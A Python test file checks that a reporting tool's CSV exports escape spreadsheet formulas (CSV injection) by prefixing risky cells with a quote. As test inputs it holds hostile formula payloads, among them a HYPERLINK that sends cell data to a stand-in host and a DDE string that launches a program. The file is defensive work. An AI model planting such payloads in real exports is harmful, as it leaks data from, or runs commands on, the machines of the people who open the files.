"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from reports.assessment import assess
from reports.exports import ReportBasis, report_data
from reports.periods import Period
from reports.spreadsheet import SpreadsheetWriter, safe_cell

from .ledger_world import World
from .test_assessment import methodology_ranking_everyone

HOSTILE = '=HYPERLINK("http://x/?"&A1,"详情")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.5", "-12.5"),  # a plain number runs nothing
        ("+3", "+3"),
        ("1e-5", "1e-5"),
        (-7, -7),
        (0.25, 0.25),
        ("甲互联网医院", "甲互联网医院"),
        ("a=b", "a=b"),
        (None, ""),
        (True, "True"),
    ],
)
def test_cells_that_could_run_are_written_as_text(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_the_writer_quotes_every_cell_of_every_row() -> None:
    out = io.StringIO()
    writer = SpreadsheetWriter(out, lineterminator="\n")
    writer.writerow(["name", "score"])
    writer.writerow([HOSTILE, -1.5])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "score"], ["'" + HOSTILE, "-1.5"]]


def test_an_assessment_csv_with_a_hostile_institution_name() -> None:
    world = World()
    world.institution("HOSP-A", HOSTILE, "second_name")
    world.institution("HOSP-B", "@evil()", "standalone")
    world.consultation("A-c1", "HOSP-A", "2026-10-01T09:00:00+08:00")
    world.consultation("B-c1", "HOSP-B", "2026-10-02T09:00:00+08:00")
    assessment = assess(world.facts(), methodology_ranking_everyone(), Period.month(2026, 10))  # type: ignore[arg-type]
    basis = ReportBasis("test/log", 10, "00" * 32, "note\n", {}, "assessment-v1", None, 0)
    data = report_data("assessment", "2026-10", basis, assessment.document())
    text = data.csv_bytes.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HOSTILE in cells and "'@evil()" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    # Negative figures stay numbers.
    assert all(
        cell.lstrip("-").replace(".", "", 1).isdigit() for cell in cells if cell.startswith("-")
    )
